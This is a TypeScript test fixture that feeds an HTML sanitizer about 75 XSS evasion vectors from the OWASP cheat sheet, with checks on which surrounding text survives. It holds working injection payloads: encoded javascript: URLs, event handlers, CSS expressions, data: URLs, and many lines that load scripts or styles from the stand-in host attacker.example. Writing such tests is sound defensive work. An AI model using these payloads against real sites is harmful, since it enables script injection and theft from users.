/**
 * Vectors after the OWASP XSS filter evasion cheat sheet, aimed at this trap: a successful
 * attack sets window.__xss = 1 or requests a file from attacker.example. Each sits between
 * two sentences that must survive.
 */
import type { Source } from './types.ts';

const X = 'window.__xss=1';
const EVIL = 'https://attacker.example';
/** `&#NN;` for every character of a string (optionally padded, without semicolons, or hex). */
const encode = ( text: string, style: 'dec' | 'dec-padded' | 'hex' | 'hex-nosemi' ) =>
	[ ...text ].map( ( char ) => {
		const code = char.codePointAt( 0 )!;
		if ( style === 'dec' ) return `&#${ code };`;
		if ( style === 'dec-padded' ) return `&#${ String( code ).padStart( 7, '0' ) }`;
		return style === 'hex' ? `&#x${ code.toString( 16 ) };` : `&#x${ code.toString( 16 ).toUpperCase() }`;
	} ).join( '' );

const vectors: Array<[ string, string, string ]> = [
	[ 'script-tag', 'A plain script element', `<script>${ X }</script>` ],
	[ 'script-src', 'Script from another host', `<SCRIPT SRC=${ EVIL }/xss.js></SCRIPT>` ],
	[ 'script-slash-attr', 'Non-alphanumeric separator after the tag name', `<SCRIPT/XSS SRC="${ EVIL }/xss.js"></SCRIPT>` ],
	[ 'script-slash-src', 'Slash instead of space before src', `<SCRIPT/SRC="${ EVIL }/xss.js"></SCRIPT>` ],
	[ 'script-double-open', 'Extra open bracket', `<<SCRIPT>${ X };//<</SCRIPT>` ],
	[ 'script-no-close', 'No closing script tag', `<SCRIPT SRC=${ EVIL }/xss.js?< B >` ],
	[ 'script-protocol-relative', 'Protocol-relative script source', `<SCRIPT SRC=//attacker.example/.j>` ],
	[ 'script-half-open', 'Half-open script followed by text', `<SCRIPT>${ X }` ],
	[ 'title-escape', 'Ending a title to start a script', `</TITLE><SCRIPT>${ X }</SCRIPT>` ],
	[ 'img-javascript', 'img src javascript:', `<IMG SRC="javascript:${ X }">` ],
	[ 'img-no-quotes', 'No quotes, no semicolon', `<IMG SRC=javascript:${ X }>` ],
	[ 'img-case', 'Case-insensitive scheme', `<IMG SRC=JaVaScRiPt:${ X }>` ],
	[ 'img-grave', 'Grave accent quoting', `<IMG SRC=\`javascript:${ X }\`>` ],
	[ 'img-malformed-quotes', 'Malformed img with a script after the quotes', `<IMG """><SCRIPT>${ X }</SCRIPT>">` ],
	[ 'img-fromcharcode', 'String.fromCharCode payload', `<IMG SRC=javascript:eval(String.fromCharCode(119,105,110,100,111,119,46,95,95,120,115,115,61,49))>` ],
	[ 'img-onerror', 'onerror on a broken image', `<IMG SRC=/ onerror="${ X }"></img>` ],
	[ 'img-onmouseover', 'Default src with onmouseover', `<IMG SRC=# onmouseover="${ X }">` ],
	[ 'img-empty-src', 'Empty src with onmouseover', `<IMG SRC= onmouseover="${ X }">` ],
	[ 'img-no-src', 'No src at all', `<IMG onmouseover="${ X }">` ],
	[ 'img-dynsrc-lowsrc', 'dynsrc and lowsrc', `<IMG DYNSRC="javascript:${ X }"><IMG LOWSRC="javascript:${ X }">` ],
	[ 'img-style-expression', 'CSS expression in style', `<IMG STYLE="xss:expr/*XSS*/ession(${ X })">` ],
	[ 'a-dec-entities', 'Decimal entities for the whole URL', `<a href="${ encode( `javascript:${ X }`, 'dec' ) }">dec link</a>` ],
	[ 'a-dec-padded', 'Zero-padded decimal entities without semicolons', `<a href="${ encode( `javascript:${ X }`, 'dec-padded' ) }">padded link</a>` ],
	[ 'a-hex-nosemi', 'Hex entities without semicolons', `<a href="${ encode( `javascript:${ X }`, 'hex-nosemi' ) }">hex link</a>` ],
	[ 'a-hex-partial', 'Only the scheme hex-encoded', `<a href="&#x6A;avascript&#x3A;${ X }">partial hex</a>` ],
	[ 'a-embedded-tab', 'Raw tab inside the scheme', `<a href="jav\tascript:${ X }">tab link</a>` ],
	[ 'a-encoded-tab', 'Encoded tab inside the scheme (found in the old parser)', `<a href="jav&#x09;ascript:${ X }">encoded tab link</a>` ],
	[ 'a-encoded-newline', 'Encoded newline inside the scheme', `<a href="jav&#x0A;ascript:${ X }">newline link</a>` ],
	[ 'a-encoded-cr', 'Encoded carriage return inside the scheme', `<a href="jav&#x0D;ascript:${ X }">cr link</a>` ],
	[ 'a-null-byte', 'Null byte inside the scheme', `<a href="java\u0000script:${ X }">null link</a>` ],
	[ 'a-leading-meta', 'Spaces and a control entity before the scheme', `<a href=" &#14;  javascript:${ X }">meta link</a>` ],
	[ 'a-colon-entity', 'Named &colon; entity (found in the old parser)', `<a href="javascript&colon;${ X }">colon link</a>` ],
	[ 'a-tab-entity', 'Named &Tab; and &NewLine; entities', `<a href="java&Tab;scr&NewLine;ipt:${ X }">named ws link</a>` ],
	[ 'a-vbscript', 'vbscript: scheme', `<a href="vbscript:msgbox(1)">vb link</a>` ],
	[ 'a-data-html', 'data:text/html link', `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data link</a>` ],
	[ 'a-onmouseover', 'Event handler on a link', `<a onmouseover="${ X }">handler link</a>` ],
	[ 'a-onclick-kept-href', 'Good href, bad handler', `<a href="https://example.com/ok" onclick="${ X }">good link</a>` ],
	[ 'a-formaction', 'Buttons with formaction', `<form><button formaction="javascript:${ X }">btn</button></form>` ],
	[ 'body-onload', 'body onload', `<BODY ONLOAD=${ X }>` ],
	[ 'body-onload-chars', 'Junk characters before the handler value', `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${ X }>` ],
	[ 'body-background', 'body background javascript:', `<BODY BACKGROUND="javascript:${ X }">` ],
	[ 'input-image', 'input type image', `<INPUT TYPE="IMAGE" SRC="javascript:${ X };">` ],
	[ 'svg-onload', 'svg onload', `<svg/onload=${ X }>` ],
	[ 'svg-script', 'script inside svg', `<svg><script>${ X }</script></svg>` ],
	[ 'iframe-javascript', 'iframe src javascript:', `<IFRAME SRC="javascript:${ X };"></IFRAME>` ],
	[ 'iframe-evil-host', 'iframe from another host, unclosed', `<iframe src=${ EVIL }/scriptlet.html <` ],
	[ 'iframe-srcdoc', 'iframe srcdoc with an encoded script', `<iframe srcdoc="&lt;script&gt;parent.${ X }&lt;/script&gt;"></iframe>` ],
	[ 'frameset', 'frameset with a javascript frame', `<FRAMESET><FRAME SRC="javascript:${ X };"></FRAMESET>` ],
	[ 'table-background', 'table and td background', `<TABLE BACKGROUND="javascript:${ X }"><TR><TD BACKGROUND="javascript:${ X }">cell text</TD></TR></TABLE>` ],
	[ 'div-bg-image', 'div with background-image url(javascript:)', `<DIV STYLE="background-image: url(javascript:${ X })">div text</DIV>` ],
	[ 'div-expression', 'div with width: expression()', `<DIV STYLE="width: expression(${ X });">expr text</DIV>` ],
	[ 'style-list-image', 'style block with list-style-image', `<STYLE>li {list-style-image: url("javascript:${ X }");}</STYLE><UL><LI>styled item</br>` ],
	[ 'style-import', 'style @import from another host', `<STYLE>@import'${ EVIL }/xss.css';</STYLE>` ],
	[ 'style-moz-binding', '-moz-binding in a style block', `<STYLE>BODY{-moz-binding:url("${ EVIL }/xssmoz.xml#xss")}</STYLE>` ],
	[ 'link-stylesheet', 'link rel stylesheet from another host', `<LINK REL="stylesheet" HREF="${ EVIL }/xss.css">` ],
	[ 'link-javascript', 'link href javascript:', `<LINK REL="stylesheet" HREF="javascript:${ X };">` ],
	[ 'meta-refresh', 'meta refresh to javascript:', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${ X };">` ],
	[ 'meta-refresh-data', 'meta refresh to a data: URL', `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">` ],
	[ 'meta-link-header', 'meta http-equiv Link header', `<META HTTP-EQUIV="Link" Content="<${ EVIL }/xss.css>; REL=stylesheet">` ],
	[ 'base-href', 'base href javascript:', `<BASE HREF="javascript:${ X };//">` ],
	[ 'base-evil-host', 'base href to another host, then a relative link', `<base href="${ EVIL }/"><a href="page">relative after base</a>` ],
	[ 'object-scriptlet', 'object with a scriptlet', `<OBJECT TYPE="text/x-scriptlet" DATA="${ EVIL }/scriptlet.html"></OBJECT>` ],
	[ 'embed-svg-data', 'embed with a data: SVG', `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+" type="image/svg+xml">` ],
	[ 'bgsound', 'bgsound src javascript:', `<BGSOUND SRC="javascript:${ X };">` ],
	[ 'video-source-onerror', 'video source onerror', `<video><source onerror="${ X }"></video>` ],
	[ 'audio-onerror', 'audio with onerror', `<audio src=x onerror=${ X }>` ],
	[ 'details-ontoggle', 'details open ontoggle', `<details open ontoggle=${ X }><summary>toggle summary</summary>toggle body</details>` ],
	[ 'marquee-onstart', 'marquee onstart', `<marquee onstart=${ X }>marquee text</marquee>` ],
	[ 'input-autofocus', 'input autofocus onfocus', `<input autofocus onfocus=${ X }>` ],
	[ 'select-onfocus', 'select autofocus onfocus', `<select autofocus onfocus=${ X }><option>opt</option></select>` ],
	[ 'xml-namespace', 'An XML namespace and import', `<HTML xmlns:xss><?import namespace="xss" implementation="${ EVIL }/xss.htc"><xss:xss>xml text</xss:xss></HTML>` ],
	[ 'p-handler-style', 'p with handlers and a style', `<p onclick="${ X }" style="background:url(${ EVIL }/bg.png)">styled para</p>` ],
	[ 'srcset', 'img srcset to another host', `<img srcset="${ EVIL }/a.png 1x, ${ EVIL }/b.png 2x">` ],
	[ 'picture', 'picture with source srcset', `<picture><source srcset="${ EVIL }/p.webp"><img src="${ EVIL }/p.jpg"></picture>` ],
	[ 'a-ping', 'a ping attribute to another host', `<a href="https://example.com/ok" ping="${ EVIL }/ping">ping link</a>` ],
	[ 'math-href', 'MathML href javascript:', `<math href="javascript:${ X }">math text</math>` ],
];

/** Vectors left open: a browser reads the rest of the body as script or frame source, so it is gone for a reader too. */
const SWALLOWS = new Set( [ 'script-no-close', 'script-half-open', 'script-protocol-relative', 'iframe-evil-host' ] );

export const xss: Source[] = vectors.map( ( [ name, description, payload ] ) => ( {
	id: `xss-${ name }`,
	description: `OWASP: ${ description }`,
	body: `<p>Safe sentence before.</p>${ payload }<p>Safe sentence after.</p>`,
	text: [ 'Safe sentence before.', ...( SWALLOWS.has( name ) ? [] : [ 'Safe sentence after.' ] ), ...( /<a [^>]*>([^<]+)<\/a>/i.exec( payload )?.slice( 1 ) ?? [] ) ],
	hosts: payload.includes( 'https://example.com/ok' ) ? [ 'example.com' ] : [],
} ) );

/** Payloads in the plain-text fields: they must arrive as text, never as markup. */
export const xssFields: Source[] = [
	{ id: 'xss-fields-title', description: 'Markup and scripts in title, meta and excerpt', body: '<p>Body stays.</p>', text: [ 'Body stays.' ], fields: { title: `Grind guide <script>${ X }</script><img src=x onerror=${ X }>`, meta_title: `<b>Meta</b> "title" <svg onload=${ X }>`, meta_description: `Desc <a href="javascript:${ X }">click</a>`, excerpt: `Excerpt &lt;img src=x onerror=${ X }&gt; end` } },
	{ id: 'xss-fields-entities', description: 'Entity-encoded markup in the title', body: '<p>Body two.</p>', text: [ 'Body two.' ], fields: { title: `&lt;script&gt;${ X }&lt;/script&gt; Title`, excerpt: `&#60;img src=x onerror=${ X }&#62;` } },
];
